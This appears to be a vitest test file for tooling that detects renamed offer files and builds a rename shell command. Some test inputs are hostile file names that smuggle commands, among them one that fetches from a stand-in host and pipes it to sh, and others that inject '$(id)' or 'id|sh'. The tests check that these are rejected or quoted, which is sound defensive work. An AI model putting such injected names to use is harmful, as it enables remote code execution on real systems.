import { expect, test } from 'vitest';
import { renameCommand } from './renamed-files.ts';
import { renamedOffers } from './renamed-offers.ts';

const offer = { title: 'Vetrina online', summary: 'Una pagina', partner: 'a' };

test('an offer with another name is one that was renamed', () => {
	expect(renamed('content/offers/a--c.md')).toEqual(['content/offers/a--c.md']);
});

test.each(['content/offers/a--b;curl${IFS}evil.example|sh.md', 'content/offers/a--$(id).md'])(
	'what is no name of an offer has no command that gives it: %s',
	(file) => {
		expect(renamed(file)).toEqual([]);
	},
);

test('a shell takes whatever a stranger calls a file for a word', () => {
	expect(renameCommand('content/offers/a--b.md', 'content/offers/a--b;id|sh.md')).toBe(
		"npm run act -- rinomina-offerta a--b 'a--b;id|sh'",
	);
});

function renamed(file: string): string[] {
	const change = (name: string) => ({ file: name, isPlainFile: true });
	const from = { ...change('content/offers/a--b.md'), before: Buffer.from('x'), after: undefined };
	const to = { ...change(file), before: undefined, after: Buffer.from('x') };
	const changes = [
		{ change: from, before: offer },
		{ change: to, after: offer },
	];
	return [...renamedOffers(changes).keys()];
}
